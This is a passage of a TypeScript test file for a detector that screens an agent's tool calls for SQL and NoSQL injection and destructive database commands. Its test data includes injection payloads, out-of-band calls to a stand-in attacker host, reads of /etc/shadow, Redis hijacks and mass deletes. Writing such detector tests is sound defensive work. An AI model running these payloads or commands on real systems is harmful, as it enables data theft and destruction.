import assert from "node:assert/strict";
import { describe, test } from "node:test";
import sqlData from "../../data/sql.json" with { type: "json" };
import { createSqlLayer } from "../../layers/sql.js";
import { NO_FINDINGS } from "../../layers/types.js";
import type { ProtectRequest } from "../../src/pipeline/facts.js";
import {
  checkLayer,
  expectCode,
  expectLayerVerdict,
  layerNamed,
  verdictOf,
} from "../helpers/layer-harness.js";

const layer = layerNamed("sql");

const sql = (content: string): ProtectRequest => ({ action: "sql_query", content });
/** A payload placed into a quoted literal of a query template. */
const quoted = (payload: string): ProtectRequest =>
  sql(`SELECT id FROM accounts WHERE login = '${payload}' LIMIT 1`);
const arg = (value: string): ProtectRequest => ({
  action: "find_customer",
  params: { query: value },
});
const url = (query: string): ProtectRequest => ({
  action: "http_request",
  target: `https://shop.example.net/list?${query}`,
});

describe("layer > sql", () => {
  test("is named sql and returns the shared empty array for clean input", () => {
    assert.equal(layer.name, "sql");
    assert.equal(checkLayer(layer, sql("SELECT 1")), NO_FINDINGS);
    assert.equal(
      checkLayer(layer, { action: "get_weather", params: { city: "Oslo" } }),
      NO_FINDINGS,
    );
  });

  test("rejects a data file with a store pattern that is not RE2", () => {
    const bad = structuredClone(sqlData) as { nosql: { jsAttackPatterns: string[] } };
    bad.nosql.jsAttackPatterns.push("(?=lookahead)");
    assert.throws(() => createSqlLayer(bad), /RE2/);
  });

  test("rejects a data file with a missing finding text or an upper-case word at start-up", () => {
    const missing = structuredClone(sqlData) as { findings: Record<string, unknown> };
    delete missing.findings.SQL_TAUTOLOGY;
    assert.throws(() => createSqlLayer(missing));
    const upper = structuredClone(sqlData) as { timeFunctions: string[] };
    upper.timeFunctions.push("SLEEP");
    assert.throws(() => createSqlLayer(upper));
  });

  test("never throws on odd input", () => {
    const odd: ProtectRequest[] = [
      { action: "" },
      sql("'".repeat(5_000)),
      sql("(".repeat(10_000)),
      sql("/*".repeat(3_000)),
      sql("--\n".repeat(3_000)),
      sql("\u0000\uffff'\"`;#"),
      arg("' or ".repeat(2_000)),
      url("a=%27&b=%22&c=;&d=--&e=/*"),
      { action: "x", params: { a: [[[{ b: "' union select ".repeat(500) }]]] } },
      { action: "db_find", params: { filter: { password: { $ne: { $ne: { $ne: [] } } } } } },
      { action: "db_find", params: { $where: 42, $function: null, filter: '{"$ne' } },
      { action: "store_op", params: { operation: 7, filter: [], collection: null } },
      { action: "es_request", params: { method: 5, path: ["/_all"] } },
      { action: "bash", target: `psql -c "${"DROP TABLE a; ".repeat(3_000)}` },
      { action: "graphql", content: `mutation { ${'x(a: "'.repeat(2_000)}` },
      { action: "http_request", params: { method: "POST" }, content: "{".repeat(20_000) },
    ];
    for (const request of odd) assert.doesNotThrow(() => checkLayer(layer, request));
  });

  describe("tautologies", () => {
    test("BLOCKs a string tautology breaking out of a quoted literal", () => {
      expectLayerVerdict(layer, quoted("' OR 'k'='k"), "BLOCK");
      expectCode(layer, quoted("' OR 'k'='k"), "SQL_TAUTOLOGY");
    });

    test("BLOCKs numeric and comparison tautologies in any slot", () => {
      expectLayerVerdict(layer, sql("SELECT * FROM t WHERE id = 4 OR 3>2"), "BLOCK");
      expectLayerVerdict(layer, arg("8 OR 6=6"), "BLOCK");
      expectLayerVerdict(layer, arg("nobody' or true--"), "BLOCK");
      expectLayerVerdict(layer, arg("x' or name like '%"), "BLOCK");
    });

    test("BLOCKs parenthesised and double-quoted variants", () => {
      expectLayerVerdict(layer, arg("bob') or ('q'='q"), "BLOCK");
      expectLayerVerdict(layer, arg('bob") or ("q")=("q'), "BLOCK");
    });

    test("BLOCKs a tautology written with typographic quotes", () => {
      expectLayerVerdict(layer, arg("z’ or ’4’=’4"), "BLOCK");
    });
  });

  describe("UNION-based", () => {
    test("BLOCKs UNION SELECT in a parameter or URL query", () => {
      expectCode(layer, arg("0 UNION ALL SELECT login, hash FROM staff"), "SQL_UNION_INJECTION");
      expectCode(layer, url("id=3%20union%20select%20null,null--"), "SQL_UNION_INJECTION");
    });

    test("BLOCKs a statement UNION that probes with constants or server variables", () => {
      expectLayerVerdict(layer, sql("SELECT a, b FROM t WHERE id = 1 UNION SELECT 1,2"), "BLOCK");
      expectLayerVerdict(
        layer,
        sql("SELECT a FROM t WHERE id = 1 UNION SELECT @@datadir"),
        "BLOCK",
      );
    });

    test("BLOCKs keywords split by inline comments or hidden in versioned comments", () => {
      expectCode(layer, url("id=1+UN/**/ION+SE/**/LECT+1,2"), "SQL_OBFUSCATED");
      expectLayerVerdict(layer, url("id=1+/*!12345UNION*/+/*!12345SELECT*/+1,2"), "BLOCK");
    });
  });

  describe("stacked queries and comment truncation", () => {
    test("BLOCKs a statement stacked after a closing quote", () => {
      expectCode(layer, arg("kim'; DROP TABLE accounts;--"), "SQL_STACKED_QUERY");
      expectCode(
        layer,
        arg("kim'; INSERT INTO admins (name) VALUES ('kim')--"),
        "SQL_STACKED_QUERY",
      );
    });

    test("BLOCKs a quote followed by a comment that cuts the query short", () => {
      for (const p of ["kim'--", "kim' #", "kim')/*", 'kim" -- -']) {
        expectCode(layer, arg(p), "SQL_COMMENT_TRUNCATION");
      }
      expectCode(layer, quoted("kim'-- "), "SQL_COMMENT_TRUNCATION");
    });
  });

  describe("error-based, blind and out-of-band", () => {
    test("BLOCKs error-based functions", () => {
      expectCode(layer, arg("1 AND extractvalue(1, concat(0x3a, version()))"), "SQL_ERROR_BASED");
      expectCode(
        layer,
        arg("1 AND 77=CONVERT(INT, (SELECT TOP 1 name FROM sysobjects))"),
        "SQL_ERROR_BASED",
      );
      expectCode(
        layer,
        arg("1' AND 1=utl_inaddr.get_host_address((SELECT user FROM dual))--"),
        "SQL_ERROR_BASED",
      );
    });

    test("BLOCKs time-based blind payloads for every dialect", () => {
      for (const p of [
        "1' AND SLEEP(4)-- -",
        "1) OR BENCHMARK(9000000,MD5(2))#",
        "1'||pg_sleep(6)--",
        "1'; WAITFOR DELAY '0:0:7'--",
        "1' AND 3=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--",
      ]) {
        expectCode(layer, arg(p), "SQL_TIME_BLIND");
      }
    });

    test("does not take a method called sleep for a SQL function", () => {
      expectLayerVerdict(
        layer,
        { action: "schedule", params: { note: "call worker.sleep(5) then retry" } },
        "ALLOW",
      );
    });

    test("BLOCKs boolean-blind subqueries and constant conditions", () => {
      expectCode(
        layer,
        arg("z' AND (SELECT COUNT(*) FROM users) > 3 AND 'a'='a"),
        "SQL_BOOLEAN_BLIND",
      );
      expectCode(
        layer,
        arg("z' AND ASCII(SUBSTRING((SELECT pw FROM users),1,1))>90--"),
        "SQL_BOOLEAN_BLIND",
      );
      expectCode(layer, quoted("AND 31=32"), "SQL_BOOLEAN_BLIND");
    });

    test("BLOCKs file, network and OS access from SQL", () => {
      expectCode(layer, sql("SELECT load_file('/etc/shadow')"), "SQL_OUT_OF_BAND");
      expectCode(layer, sql("SELECT name FROM t INTO DUMPFILE '/tmp/x.so'"), "SQL_OUT_OF_BAND");
      expectCode(layer, sql("EXEC xp_cmdshell 'whoami'"), "SQL_OUT_OF_BAND");
      expectCode(
        layer,
        arg("'; exec master..xp_dirtree '\\\\evil.example\\a'--"),
        "SQL_OUT_OF_BAND",
      );
      expectCode(layer, sql("COPY (SELECT 1) TO PROGRAM 'id'"), "SQL_OUT_OF_BAND");
    });
  });

  describe("enumeration and obfuscation", () => {
    test("BLOCKs catalog and server-information reads injected into values", () => {
      expectCode(
        layer,
        arg("' UNION SELECT table_name, 1 FROM information_schema.tables--"),
        "SQL_SCHEMA_ENUMERATION",
      );
      expectCode(layer, url("q=select%20*%20from%20pg_shadow"), "SQL_SCHEMA_ENUMERATION");
      expectCode(layer, arg("select current_setting('data_directory')"), "SQL_SCHEMA_ENUMERATION");
    });

    test("WARNs a direct read of the database's password table", () => {
      expectLayerVerdict(layer, sql("SELECT user, authentication_string FROM mysql.user"), "WARN");
    });

    test("BLOCKs char() chains that spell strings", () => {
      expectCode(layer, arg("x' AND 'ab'=CHAR(97)+CHAR(98)--"), "SQL_OBFUSCATED");
      expectCode(
        layer,
        sql("SELECT * FROM t WHERE n = CHR(65)||CHR(66)||CHR(67)"),
        "SQL_OBFUSCATED",
      );
    });

    test("BLOCKs payloads hidden by URL encoding, double encoding and base64", () => {
      expectLayerVerdict(layer, url("q=1%2527%2520OR%2520%25271%2527%253D%25271"), "BLOCK");
      const blob = Buffer.from("nobody' UNION SELECT password FROM users-- ").toString("base64");
      expectLayerVerdict(layer, { action: "find_customer", params: { token: blob } }, "BLOCK");
    });
  });

  describe("literals that carry SQL", () => {
    test("BLOCKs a literal holding a condition fragment or column probe", () => {
      expectCode(layer, quoted("OR a=b -- "), "SQL_INJECTED_FRAGMENT");
      expectCode(layer, quoted("ORDER BY 14#"), "SQL_COLUMN_PROBE");
      expectCode(layer, quoted("UNION ALL SELECT "), "SQL_UNION_INJECTION");
    });

    test("BLOCKs a clause keyword where a value belongs", () => {
      expectCode(layer, sql("SELECT * FROM t WHERE id = ORDER BY 5"), "SQL_SYNTAX_BREAK");
      expectCode(layer, sql("SELECT * FROM t WHERE id = UNION SELECT 1"), "SQL_SYNTAX_BREAK");
    });

    test("BLOCKs quotes that no longer pair up", () => {
      expectLayerVerdict(layer, sql('SELECT * FROM t WHERE id = " or "m"="m'), "BLOCK");
    });

    test("ALLOWs SQL words inside a literal that is plain data", () => {
      expectLayerVerdict(
        layer,
        sql("INSERT INTO notes (body) VALUES ('we will drop the table tomorrow')"),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql("INSERT INTO notes (body) VALUES ('select a seat; delete from the list later')"),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql("SELECT * FROM notes WHERE body = 'Union Station' OR body = 'Drop-off'"),
        "ALLOW",
      );
    });

    test("ALLOWs LIKE patterns that search for attack strings", () => {
      expectLayerVerdict(
        layer,
        sql("SELECT * FROM waf_log WHERE uri LIKE '%union select%'"),
        "ALLOW",
      );
    });
  });

  describe("destructive statements", () => {
    test("BLOCKs DROP DATABASE / SCHEMA and DROP TABLE on real tables", () => {
      expectCode(layer, sql("DROP DATABASE warehouse;"), "SQL_DROP_DATABASE");
      expectCode(layer, sql("drop schema finance cascade"), "SQL_DROP_DATABASE");
      expectCode(layer, sql("DROP TABLE IF EXISTS invoices CASCADE;"), "SQL_DROP_TABLE");
    });

    test("BLOCKs TRUNCATE of a real table", () => {
      expectCode(layer, sql("TRUNCATE TABLE payroll;"), "SQL_TRUNCATE");
    });

    test("BLOCKs DELETE and UPDATE without WHERE or with an always-true WHERE", () => {
      expectCode(layer, sql("DELETE FROM contracts"), "SQL_UNBOUNDED_DELETE");
      expectCode(layer, sql("DELETE FROM contracts WHERE 2=2;"), "SQL_UNBOUNDED_DELETE");
      expectCode(
        layer,
        sql("DELETE FROM contracts WHERE id = 5 OR 'x'='x'"),
        "SQL_UNBOUNDED_DELETE",
      );
      expectCode(layer, sql("UPDATE contracts SET owner = 'me';"), "SQL_UNBOUNDED_UPDATE");
      expectCode(
        layer,
        sql("UPDATE contracts SET owner = 'me' WHERE true"),
        "SQL_UNBOUNDED_UPDATE",
      );
    });

    test("BLOCKs dropping a live column and broad privilege grants", () => {
      expectCode(
        layer,
        sql("ALTER TABLE people DROP COLUMN passport_no;"),
        "SQL_ALTER_DROP_COLUMN",
      );
      expectCode(
        layer,
        sql("GRANT ALL ON ALL TABLES IN SCHEMA public TO contractor;"),
        "SQL_PRIVILEGE_GRANT",
      );
      expectCode(
        layer,
        sql("GRANT SELECT ON hr.salaries TO app WITH GRANT OPTION"),
        "SQL_PRIVILEGE_GRANT",
      );
      expectCode(layer, sql("CREATE ROLE helper SUPERUSER LOGIN"), "SQL_PRIVILEGE_GRANT");
    });

    test("BLOCKs destruction hidden in a script, a CTE or a param", () => {
      expectLayerVerdict(layer, sql("BEGIN; TRUNCATE orders; COMMIT;"), "BLOCK");
      expectLayerVerdict(layer, sql("WITH x AS (SELECT 1) DELETE FROM orders"), "BLOCK");
      expectLayerVerdict(
        layer,
        { action: "run_sql", params: { sql: "DROP TABLE orders" } },
        "BLOCK",
      );
      // Tools the action table does not know: SQL-shaped content or a SQL-named parameter.
      expectLayerVerdict(
        layer,
        { action: "warehouse_exec", content: "DELETE FROM shipments" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "bi_tool", params: { statement: "TRUNCATE invoices" } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "bi_tool", params: { statement: "SELECT * FROM invoices" } },
        "ALLOW",
      );
    });

    test("WARNs plausible maintenance: temp tables, staging, age-bounded and limited deletes", () => {
      expectLayerVerdict(layer, sql("DROP TABLE IF EXISTS tmp_merge_2024;"), "WARN");
      expectLayerVerdict(layer, sql("DROP TABLE #work_rows"), "WARN");
      expectLayerVerdict(layer, sql("TRUNCATE staging.orders_raw;"), "WARN");
      expectLayerVerdict(
        layer,
        sql("DELETE FROM sessions WHERE last_seen_at < now() - interval '30 days';"),
        "WARN",
      );
      expectLayerVerdict(layer, sql("DELETE FROM jobs LIMIT 500"), "WARN");
      expectLayerVerdict(layer, sql("ALTER TABLE users DROP COLUMN legacy_pin;"), "WARN");
    });

    test("ALLOWs bounded DML and routine DDL", () => {
      for (const statement of [
        "DELETE FROM cart_items WHERE cart_id = 9 AND sku = 'A-1';",
        "DELETE FROM reset_tokens WHERE expires_at < NOW();",
        "DELETE FROM grades WHERE score < 40;",
        "UPDATE users SET updated_by = 'ops' WHERE id = 12;",
        "UPDATE orders o SET paid = true FROM payments p WHERE p.order_id = o.id;",
        "CREATE INDEX idx_a ON t(a);",
        "DROP INDEX idx_old;",
        "ALTER TABLE t DROP CONSTRAINT t_fk;",
        "SELECT * FROM t WHERE 1=1 AND region = 'north';",
        "CREATE TABLE t_copy AS SELECT * FROM t WHERE 1=0;",
      ]) {
        expectLayerVerdict(layer, sql(statement), "ALLOW");
      }
    });
  });

  describe("hard benign look-alikes", () => {
    test("ALLOWs column names and prose that contain SQL words", () => {
      expectLayerVerdict(
        layer,
        sql("SELECT updated_by, deleted_flag, union_id FROM members WHERE id = 3"),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql("Find the customers who dropped their subscription last month"),
        "ALLOW",
      );
      expectLayerVerdict(layer, arg("how to use union select in postgres"), "ALLOW");
      expectLayerVerdict(
        layer,
        { action: "send_message", content: "I ran DROP TABLE tmp_x; and DELETE FROM t WHERE 1=1" },
        "ALLOW",
      );
    });

    test("ALLOWs apostrophes and dashes in names and notes", () => {
      expectLayerVerdict(layer, arg("O'Brien"), "ALLOW");
      expectLayerVerdict(layer, arg("Don't forget -- the meeting moved"), "ALLOW");
      expectLayerVerdict(layer, url("q=rock+%27n%27+roll&sort=year"), "ALLOW");
    });

    test("ALLOWs prose that quotes a payload while describing it", () => {
      expectLayerVerdict(
        layer,
        {
          action: "create_ticket",
          params: { body: "Typing admin'-- in the login box skips the password check" },
        },
        "ALLOW",
      );
    });

    test("ALLOWs schema introspection and comments with quotes in agent SQL", () => {
      expectLayerVerdict(
        layer,
        sql("SELECT table_name FROM information_schema.tables WHERE table_schema = 'app'"),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql("-- don't run twice\nSELECT COUNT(*) FROM t WHERE name = 'O''Neil'"),
        "ALLOW",
      );
    });

    test("does not read injection into shell commands and code (only the SQL they run)", () => {
      expectLayerVerdict(
        layer,
        { action: "shell_exec", target: 'psql -c "SELECT 1 -- it\'s fine"' },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "code_exec", content: 'cur.execute("SELECT * FROM t WHERE a = \'" + x + "\'")' },
        "ALLOW",
      );
    });
  });

  describe("UNION in the agent's own SQL", () => {
    test("BLOCKs a UNION that reads the system catalog after an ordinary WHERE", () => {
      expectCode(
        layer,
        sql("SELECT title FROM posts WHERE slug = 'intro' UNION SELECT name FROM sqlite_schema"),
        "SQL_UNION_INJECTION",
      );
      expectLayerVerdict(
        layer,
        sql(
          "SELECT a, b FROM t WHERE c = 2 UNION ALL SELECT usename, passwd FROM pg_catalog.pg_user",
        ),
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        sql(
          "SELECT label FROM tags WHERE id = 8 UNION SELECT name FROM sys.objects WHERE type = 'U'",
        ),
        "BLOCK",
      );
    });

    test("BLOCKs a UNION that reads credential columns, even inside a function", () => {
      expectLayerVerdict(
        layer,
        sql("SELECT sku, name FROM products WHERE id = 3 UNION SELECT login, pass_hash FROM staff"),
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        sql("select headline from news where id=9 union select concat(user,':',pwd) from members"),
        "BLOCK",
      );
    });

    test("BLOCKs a UNION whose text ends in a bare comment marker", () => {
      expectLayerVerdict(
        layer,
        sql("SELECT city FROM stores WHERE id = 4 UNION SELECT email FROM customers --"),
        "BLOCK",
      );
    });

    test("ALLOWs a UNION of ordinary tables and plain catalog introspection", () => {
      expectLayerVerdict(
        layer,
        sql("SELECT email FROM customers UNION SELECT email FROM leads ORDER BY email"),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql("SELECT id, total FROM q1_orders UNION ALL SELECT id, total FROM q2_orders"),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql("SELECT name FROM sqlite_master WHERE type = 'table'"),
        "ALLOW",
      );
    });
  });

  describe("sort keys, column names and other expression slots", () => {
    test("BLOCKs a subquery smuggled into a sort key or an id", () => {
      const sort = (value: string): ProtectRequest => ({
        action: "list_invoices",
        params: { sort: value },
      });
      expectCode(
        layer,
        sort("(CASE WHEN (SELECT substr(secret,1,1) FROM vault WHERE id=2)='x' THEN a ELSE b END)"),
        "SQL_BOOLEAN_BLIND",
      );
      expectLayerVerdict(layer, sort("IF((SELECT COUNT(*) FROM admins)>0, total, id)"), "BLOCK");
      expectLayerVerdict(
        layer,
        sort("due_date, (SELECT 1 FROM users WHERE name='root' LIMIT 1)"),
        "BLOCK",
      );
      expectLayerVerdict(layer, arg("7 AND (SELECT 1 FROM dual WHERE 2>1)"), "BLOCK");
    });

    test("BLOCKs a secret read one character at a time", () => {
      expectLayerVerdict(
        layer,
        { action: "list_invoices", params: { order: "IF(ASCII(MID(password,1,1))>90,a,b)" } },
        "BLOCK",
      );
      expectCode(
        layer,
        sql("SELECT * FROM items WHERE id = 1 AND substring(password_hash,1,1) = 'a'"),
        "SQL_BOOLEAN_BLIND",
      );
    });

    test("ALLOWs ordinary sorts, prose in parentheses and nested queries sent whole", () => {
      expectLayerVerdict(
        layer,
        { action: "list_invoices", params: { sort: "due_date desc, id" } },
        "ALLOW",
      );
      expectLayerVerdict(layer, arg("(select one from the list)"), "ALLOW");
      expectLayerVerdict(
        layer,
        { action: "note", params: { body: "Please (select all from menu) first" } },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "report", params: { query: "SELECT id FROM a WHERE b IN (SELECT b FROM c)" } },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql("SELECT id, left(api_token, 4) AS prefix FROM api_keys WHERE owner = 3"),
        "ALLOW",
      );
    });
  });

  describe("request bodies", () => {
    test("BLOCKs injection in a JSON body, a GraphQL argument or a form body", () => {
      const post = (content: string): ProtectRequest => ({
        action: "http_request",
        target: "https://api.example.net/items",
        params: { method: "POST" },
        content,
      });
      expectLayerVerdict(layer, post('{"filter": {"name": "x\' OR \'a\'=\'a"}}'), "BLOCK");
      expectLayerVerdict(layer, post("user=admin'--&pass=x"), "BLOCK");
      expectLayerVerdict(
        layer,
        {
          action: "graphql",
          content: 'query { order(ref: "1 UNION SELECT pwd FROM staff--") { id } }',
        },
        "BLOCK",
      );
    });

    test("BLOCKs injection in the text of an XML body", () => {
      expectLayerVerdict(
        layer,
        {
          action: "soap_call",
          target: "https://erp.example.net/ws",
          params: { method: "POST" },
          content: "<Lookup><ref>7 OR 2>1</ref></Lookup>",
        },
        "BLOCK",
      );
    });

    test("ALLOWs bodies whose strings are plain data", () => {
      const post = (content: string): ProtectRequest => ({
        action: "http_request",
        target: "https://api.example.net/notes",
        params: { method: "POST" },
        content,
      });
      expectLayerVerdict(layer, post('{"title": "Groceries", "body": "eggs; milk (2)"}'), "ALLOW");
      expectLayerVerdict(
        layer,
        { action: "graphql", content: "query { search(term: \"rock 'n' roll\") { id } }" },
        "ALLOW",
      );
    });
  });

  describe("NoSQL operator injection", () => {
    test("BLOCKs operators on a credential field, however they are written", () => {
      expectCode(
        layer,
        { action: "db_find", params: { filter: { user: "admin", password: { $ne: null } } } },
        "NOSQL_OPERATOR_INJECTION",
      );
      expectLayerVerdict(
        layer,
        { action: "sign_in", params: { email: "a@b.c", pwd: '{"$gt": ""}' } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "fetch_url", target: "https://x.example/api?user=a&passwd[$regex]=^z" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "fetch_url", target: "https://x.example/login?u=a&password%5B%24ne%5D=1" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://x.example/session",
          params: { method: "POST" },
          content: '{"login": {"$ne": null}, "password": {"$ne": null}}',
        },
        "BLOCK",
      );
    });

    test("BLOCKs always-true operators on a login field where a login is at stake", () => {
      expectLayerVerdict(
        layer,
        { action: "user_login", params: { username: { $gt: "" }, password: "x" } },
        "BLOCK",
      );
    });

    test("BLOCKs server-side JavaScript with a delay, loop or tautology and WARNs plain $where", () => {
      expectCode(
        layer,
        { action: "db_find", params: { filter: { $where: "this.pass.length > 0 || true" } } },
        "NOSQL_JS_INJECTION",
      );
      expectCode(
        layer,
        { action: "db_find", params: { filter: '{"$where": "sleep(3000)"}' } },
        "NOSQL_JS_INJECTION",
      );
      expectLayerVerdict(
        layer,
        { action: "db_find", params: { filter: { $where: "this.a > this.b" } } },
        "WARN",
      );
    });

    test("BLOCKs GraphQL and ORM filter operators spelled without $ on a credential field", () => {
      expectLayerVerdict(
        layer,
        { action: "graphql", content: 'query { members(where: {pass_hash: {_neq: ""}}) { id } }' },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "orm_find", params: { where: { login: "root", password: { not: "" } } } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "orm_find", params: { where: { title: { contains: "go" }, views: { gt: 5 } } } },
        "ALLOW",
      );
    });

    test("ALLOWs ordinary query operators and look-alike field names", () => {
      expectLayerVerdict(
        layer,
        { action: "db_find", params: { filter: { total: { $gte: 50 } } } },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "db_find", params: { filter: { email: { $ne: null } } } },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "db_find", params: { filter: { password_changed_at: { $lt: "2024-01-01" } } } },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "db_find", params: { filter: { tokens_used: { $gt: 900 } } } },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "fetch_url", target: "https://cms.example/api/posts?filters[views][$gt]=10" },
        "ALLOW",
      );
    });
  });

  describe("destructive operations on other stores", () => {
    test("BLOCKs flushing Redis or memcached, as a command, a param, an argument list or a call", () => {
      expectCode(layer, { action: "redis_command", target: "FLUSHALL" }, "NOSQL_STORE_WIPE");
      expectLayerVerdict(
        layer,
        { action: "cache_tool", params: { cmd: "flushdb async" } },
        "BLOCK",
      );
      expectLayerVerdict(layer, { action: "cache_tool", params: { args: ["FLUSHALL"] } }, "BLOCK");
      expectLayerVerdict(
        layer,
        { action: "bash", target: "redis-cli -h cache-2 -n 3 flushdb" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "run_node", content: "await client.flushAll()" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "bash", target: "echo flush_all | nc cache-3 11211" },
        "BLOCK",
      );
    });

    test("BLOCKs Redis reconfigured to write files, replicate from a stranger or load a module", () => {
      expectCode(
        layer,
        { action: "redis", content: "CONFIG SET dbfilename x.php" },
        "NOSQL_CONFIG_HIJACK",
      );
      expectLayerVerdict(
        layer,
        { action: "redis", params: { command: "CONFIG", args: ["SET", "dir", "/tmp"] } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "redis", content: "REPLICAOF 198.51.100.7 6379" },
        "BLOCK",
      );
      expectLayerVerdict(layer, { action: "redis", content: "MODULE LOAD /tmp/m.so" }, "BLOCK");
    });

    test("BLOCKs MongoDB deletes with an empty filter and collection or database drops", () => {
      expectCode(
        layer,
        { action: "mongo", content: "db.orders.remove({})" },
        "NOSQL_UNBOUNDED_DELETE",
      );
      expectLayerVerdict(
        layer,
        { action: "mongo", content: "db.getCollection('logs').drop()" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "mongo", params: { command: { dropDatabase: 1 } } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        {
          action: "store_op",
          params: { operation: "deleteMany", collection: "carts", filter: {} },
        },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "mongo_delete_many", params: { collection: "carts" } },
        "BLOCK",
      );
      expectCode(
        layer,
        {
          action: "store_op",
          params: {
            op: "update_many",
            collection: "users",
            filter: {},
            update: { $set: { admin: true } },
          },
        },
        "NOSQL_UNBOUNDED_UPDATE",
      );
    });

    test("BLOCKs search-index wipes and WARNs dropping a dated index", () => {
      expectLayerVerdict(
        layer,
        { action: "es_request", params: { method: "DELETE", path: "/_all" } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "opensearch", params: { method: "DELETE", index: "logs-*" } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        {
          action: "es_request",
          params: {
            method: "POST",
            path: "/orders/_delete_by_query",
            body: { query: { match_all: {} } },
          },
        },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "es_request", params: { method: "DELETE", path: "/metrics-2024.01.07" } },
        "WARN",
      );
    });

    test("BLOCKs table, keyspace and graph wipes in other stores and GraphQL", () => {
      expectLayerVerdict(
        layer,
        { action: "dynamo", params: { Operation: "DeleteTable", TableName: "Carts" } },
        "BLOCK",
      );
      expectCode(layer, { action: "cql", content: "DROP KEYSPACE billing;" }, "SQL_DROP_DATABASE");
      expectLayerVerdict(
        layer,
        { action: "graph_db", content: "MATCH (x) DETACH DELETE x" },
        "BLOCK",
      );
      expectCode(
        layer,
        { action: "gql", content: "mutation { delete_invoices(where: {}) { affected_rows } }" },
        "GRAPHQL_MASS_DELETE",
      );
      expectLayerVerdict(
        layer,
        { action: "gql", content: "mutation { purgeAllComments { count } }" },
        "BLOCK",
      );
      expectLayerVerdict(layer, { action: "py", content: "Order.objects.all().delete()" }, "BLOCK");
    });

    test("BLOCKs query-builder deletes with no filter and Redis keys listed then deleted", () => {
      expectLayerVerdict(
        layer,
        { action: "run_node", content: "await knex('carts').del()" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "run_node", content: "await sb.from('posts').delete().neq('id', 0)" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "run_python", content: "db.session.query(Visit).delete()" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "php", content: "DB::table('orders')->delete();" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "bash", target: "redis-cli keys '*' | xargs redis-cli del" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "run_node", content: "await knex('carts').where({ id }).del()" },
        "ALLOW",
      );
    });

    test("ALLOWs targeted operations and text that only mentions them", () => {
      expectLayerVerdict(layer, { action: "redis_command", target: "DEL cart:991" }, "ALLOW");
      expectLayerVerdict(
        layer,
        { action: "redis", content: "CONFIG GET maxmemory-policy" },
        "ALLOW",
      );
      expectLayerVerdict(layer, { action: "redis", content: "REPLICAOF NO ONE" }, "ALLOW");
      expectLayerVerdict(
        layer,
        { action: "es_request", params: { method: "DELETE", path: "/orders/_doc/77" } },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "mongo", content: "db.carts.deleteMany({ userId: 'u-1' })" },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        {
          action: "store_op",
          params: { operation: "deleteMany", collection: "carts", filter: { user: "u-1" } },
        },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "graph_db", content: "MATCH (x:Tmp {run: 4}) DELETE x" },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "gql", content: 'mutation { deleteComment(id: "c-9") { id } }' },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "fetch_url", target: "https://redis.io/docs/latest/commands/flushall/" },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "llm_prompt", content: "What does FLUSHALL do?" },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "write_file", target: "ops/reset.sh", content: "redis-cli flushall" },
        "ALLOW",
      );
    });
  });

  describe("SQL run by shell commands and programs", () => {
    test("BLOCKs destructive statements handed to a database client or driver", () => {
      expectCode(
        layer,
        { action: "bash", target: "psql -h db -c 'DROP TABLE invoices'" },
        "SQL_DROP_TABLE",
      );
      expectLayerVerdict(
        layer,
        { action: "bash", target: 'mysql -e "DROP DATABASE shop"' },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "bash", target: "sqlite3 app.db 'DELETE FROM users'" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "bash", target: "psql shop <<SQL\nTRUNCATE orders;\nSQL" },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "run_python", content: 'cur.execute("TRUNCATE TABLE payments")' },
        "BLOCK",
      );
    });

    test("ALLOWs reads, bounded writes and SQL words in commit messages", () => {
      expectLayerVerdict(
        layer,
        { action: "bash", target: 'psql -c "SELECT count(*) FROM users"' },
        "ALLOW",
      );
